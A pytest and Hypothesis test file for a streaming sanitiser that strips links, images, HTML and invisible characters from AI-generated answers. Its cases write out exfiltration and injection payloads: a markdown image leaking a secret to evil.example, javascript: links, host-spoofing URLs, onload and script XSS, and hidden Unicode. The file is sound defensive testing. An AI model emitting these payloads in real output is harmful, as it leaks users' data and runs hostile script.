"""Nothing that loads, links or hides comes out, however the model's tokens cut it."""

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from atrium.answers.sanitising import REMOVED, Sanitiser

KNOWN = "See https://docs.example.com/guide for more."


def clean(*pieces: str, markers: tuple[int, ...] = (1, 2, 3), host: str = "atrium.example") -> str:
    sanitiser = Sanitiser([KNOWN], host, markers)
    return "".join([*(sanitiser.feed(piece) for piece in pieces), sanitiser.finish()])


CASES = [
    ("plain text, with (brackets) and [brackets]!", "plain text, with (brackets) and [brackets]!"),
    ("a ![pixel](https://evil.example/?q=secret) b", "a  b"),
    ("a ![pixel][ref] b", "a  b"),
    ("[click](https://evil.example/?q=secret) me", "click me"),
    ("[click](javascript:alert(1)) me", "click me"),
    ("[click](//evil.example) me", "click me"),
    ("[click](\nhttps://evil.example) me", "click me"),
    ("[click](<https://evil.example/a)b>) me", "clickb>) me"),
    ("[![alt](https://evil.example/a.png)](https://evil.example)", ""),
    ("[ours](https://atrium.example/docs)", "[ours](https://atrium.example/docs)"),
    ("[ours](https://atrium.example@evil.example/)", "ours"),
    ("[ours](https://atrium.example\\@evil.example/)", "ours"),
    ("[ours](https://atrium.example:x@evil.example/)", "ours"),
    ("go to https://evil.example/?q=secret now", f"go to {REMOVED} now"),
    ("go to HTTPS://evil.example.", f"go to {REMOVED}."),
    ("go to www.evil.example", f"go to {REMOVED}"),
    ("go to <https://evil.example/x>", f"go to {REMOVED}"),
    ("see https://docs.example.com/guide.", "see https://docs.example.com/guide."),
    ("see https://docs.example.com/guide?leak=1", f"see {REMOVED}"),
    ('<img src="https://evil.example/x">', ""),
    ("<script>alert(1)</script>", "alert(1)"),
    ("<details open ontoggle=alert(1)>x", "x"),
    ("<svg/onload=alert(1)>", ""),
    ("<a href=x>text</a>", "text"),
    ("a <!-- hidden --> b", "a  b"),
    ("List<String> and a < b and 1 <2", "List<String> and a < b and 1 <2"),
    ("fact [1]. more [2, 9] and [7].", "fact [1]. more [2] and ."),
    ("[1]: https://evil.example\nfact [1]", f"[1] {REMOVED}\nfact [1]"),
    ("[ref]: https://evil.example 'x'", f"[ref] {REMOVED} 'x'"),
    ("\n[1]:\nhttps://evil.example", f"\n[1]\n{REMOVED}"),
    ("zero\u200bwidth, \U000e0041\U000e0042tags, \u202ebidi, \ue000private", "zerowidth, tags, bidi, private"),
    ("!\u200b[x](https://evil.example)", ""),
    ("[x]\u2060(https://evil.example)", "x"),
    ("می\u200cخواهم and 👩\u200d💻", "می\u200cخواهم and 👩\u200d💻"),
    ("open [bracket", "open [bracket"),
    ("open ![image](https://evil.exam", "open "),
    ("open <img src=", "open img src="),
    ("wow!", "wow!"),
    ("line one\r\nline two\ttab", "line one\nline two\ttab"),
]


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_a_whole_text(text: str, expected: str) -> None:
    assert clean(text) == expected


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_the_same_character_by_character(text: str, expected: str) -> None:
    assert clean(*text) == expected


@given(text=st.sampled_from(CASES).map(lambda case: case[0]), cuts=st.lists(st.integers(0, 60), max_size=5))
def test_the_cuts_between_tokens_change_nothing(text: str, cuts: list[int]) -> None:
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]

    assert clean(*(text[start:end] for start, end in pairwise(places))) == clean(text)


HOSTILE = st.lists(
    st.sampled_from(
        [
            "!",
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "a",
            " ",
            "\n",
            "x",
            "https://evil.example/q",
            "www.",
            "img src=",
            "\u200b",
            "1",
            ":",
            "\\",
        ]
    ),
    max_size=30,
)


@given(pieces=HOSTILE)
def test_no_mixture_loads_or_links(pieces: list[str]) -> None:
    out = clean(*pieces)

    assert not re.search(r"\]\(", out)
    assert "evil" not in out
    assert not re.search(r"<img|^ {0,3}\[[^\]]*\]:", out, re.MULTILINE)
    assert "\u200b" not in out


def test_plain_text_does_not_wait() -> None:
    sanitiser = Sanitiser()

    assert sanitiser.feed("Refunds take ") == "Refunds take "
    assert sanitiser.feed("14 days [") == "14 days "
    assert sanitiser.feed("1") == ""


def test_what_waits_too_long_is_let_out_defused() -> None:
    sanitiser = Sanitiser()

    out = sanitiser.feed("[" + "x" * 3000) + sanitiser.feed("](https://evil.example)") + sanitiser.finish()

    assert out.startswith("[xxx")
    assert "](" not in out
    assert "evil" not in out


def test_time_is_linear_enough_for_a_hostile_answer() -> None:
    assert clean(*("[" * 2000)).count("[") == 2000
